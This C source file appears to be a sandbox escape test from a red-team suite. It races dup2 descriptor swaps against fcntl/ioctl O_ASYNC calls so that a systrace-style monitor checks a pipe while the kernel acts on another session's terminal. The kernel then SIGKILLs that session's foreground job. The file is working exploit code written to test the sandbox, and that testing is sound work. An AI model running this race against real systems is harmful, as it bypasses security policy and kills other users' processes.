/* sig_fdswap.c MODE TERMINAL VICTIM: have the kernel kill another session's foreground job through
 * a terminal put at a descriptor's number between systrace's check and the kernel's call.
 *
 * O_ASYNC turned on for a terminal's file with no owner makes the terminal's foreground group
 * the owner (tty_fasync), sent F_SETSIG's signal (SIGKILL) at the next line typed there;
 * systrace decides fcntl(F_SETFL, O_ASYNC) on a terminal as kill(-pgid) of that group, and
 * lets it run without a decision on any other file (a pipe: the caller becomes no one's
 * owner).  It looks at what the descriptor is when the call stops -- but another thread may
 * dup2 another file to the number before the kernel looks it up.  The program opens
 * TERMINAL (/dev/pts/N, the controlling terminal of VICTIM's session, outside the tree),
 * sets F_SETSIG SIGKILL on it, and while a thread puts the terminal and a pipe's read end at
 * one number in turn, turns O_ASYNC on and off there: one call checked on the pipe that
 * runs on the terminal makes the victim's group its owner for good (a file found owned is
 * let turn O_ASYNC on again: its owner stays), and the next line typed kills it.  MODE
 * fcntl turns O_ASYNC on and off by fcntl(F_SETFL), ioctl by ioctl(FIOASYNC).
 *
 * ESCAPED when the victim ended; BLOCKED when it lives after every try.  Red team 19 (issue
 * 11), class 6 (descriptor owners), a race (class 1's kind: what is checked is not what the
 * kernel uses).
 */
#include "attack.h"

#include <sys/ioctl.h>

static pid_t victim;
static int number, terminal, pipe_end;
static volatile int stop;
static int by_ioctl;

/* O_ASYNC on or off at `fd`, as MODE says */
static int set_async(int fd, int on) {
    return by_ioctl ? ioctl(fd, FIOASYNC, &on) : fcntl(fd, F_SETFL, on ? O_ASYNC : 0);
}

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(terminal, number);
        dup2(pipe_end, number);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 || (strcmp(argv[1], "fcntl") && strcmp(argv[1], "ioctl")))
        usage("sig_fdswap fcntl|ioctl TERMINAL VICTIM");
    by_ioctl = !strcmp(argv[1], "ioctl");
    victim = atoi(argv[3]);
    terminal = open(argv[2], O_RDWR | O_NOCTTY);
    if (terminal < 0)
        skipped("open %s: %s", argv[2], ename(errno));
    if (fcntl(terminal, F_SETSIG, SIGKILL) < 0)
        skipped("F_SETSIG: %s", ename(errno));
    int fds[2];
    if (pipe(fds) < 0)
        skipped("pipe: %s", ename(errno));
    pipe_end = fds[0];
    number = dup(pipe_end);
    pthread_t thread;
    if (pthread_create(&thread, NULL, swapper, NULL) != 0)
        skipped("pthread_create");
    int tries = 0, refused = 0, last = 0;
    for (; tries < 3000 && !process_ended(victim); tries++) {
        if (set_async(number, 1) < 0) {
            refused++;
            last = errno;
        }
        set_async(number, 0);
    }
    stop = 1;
    pthread_join(thread, NULL);
    /* the terminal at the number, O_ASYNC on once more: its owner, whoever that is now */
    dup2(terminal, number);
    int rc = set_async(number, 1);
    for (int i = 0; i < 100 && rc == 0 && !process_ended(victim); i++)
        usleep(10000);
    if (process_ended(victim))
        escaped("the kernel sent SIGKILL to %d (owner %d) after %d tries", victim,
                fcntl(terminal, F_GETOWN), tries);
    blocked("O_ASYNC on %s at a swapped number: the victim lives after %d tries "
            "(%d refused, last %s; owner %d)", argv[2], tries, refused,
            refused ? ename(last) : "-", fcntl(terminal, F_GETOWN));
}
